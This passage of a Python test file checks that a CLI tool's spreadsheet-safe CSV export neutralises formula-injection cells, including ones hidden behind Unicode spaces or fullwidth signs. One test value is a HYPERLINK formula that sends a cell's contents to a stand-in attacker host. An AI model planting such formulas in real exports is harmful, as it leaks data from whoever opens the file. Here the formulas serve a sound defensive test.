    def test_spreadsheet_safe_csv_keeps_formulas_inert(self, project: Path) -> None:
        """--spreadsheet-safe prefixes cells a spreadsheet would run; plain CSV keeps them."""
        hid = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
        args = ["start", hid, "--policy", "speed-to-lead", "--owner", "+cmd", "--started-at", T0]
        assert run(*args).exit_code == 0
        safe = list(
            csv.DictReader(
                run("export", "--format", "csv", "--spreadsheet-safe").stdout.splitlines()
            )
        )
        assert (safe[0]["id"], safe[0]["owner"]) == ("'" + hid, "'+cmd")
        assert safe[0]["started_at"] == "2026-11-23T14:00:00+00:00"
        plain = list(csv.DictReader(run("export", "--format", "csv").stdout.splitlines()))
        assert (plain[0]["id"], plain[0]["owner"]) == (hid, "+cmd")
        assert "--format csv" in one_line_error(
            CliRunner().invoke(cli, ["export", "--spreadsheet-safe"])
        )

    @pytest.mark.parametrize(
        "owner", [" =1+1", "\u3000=1+1", "\u00a0@SUM(A1)", "\uff1d1+1", "  \uff0bcmd"]
    )
    def test_spreadsheet_safe_looks_past_spaces_and_fullwidth_signs(
        self, project: Path, owner: str
    ) -> None:
        """A spreadsheet that trims spaces (Unicode ones too) or folds fullwidth signs
        would still run these: they get the ' as well; an ordinary value does not."""
        args = ["start", "S1", "--policy", "speed-to-lead", "--started-at", T0]
        assert run(*args, "--owner", owner).exit_code == 0
        assert run("start", "S2", "--policy", "speed-to-lead", "--owner", "a = b").exit_code == 0
        rows = list(
            csv.DictReader(
                run("export", "--format", "csv", "--spreadsheet-safe").stdout.splitlines()
            )
        )
        assert [r["owner"] for r in rows] == ["'" + owner, "a = b"]
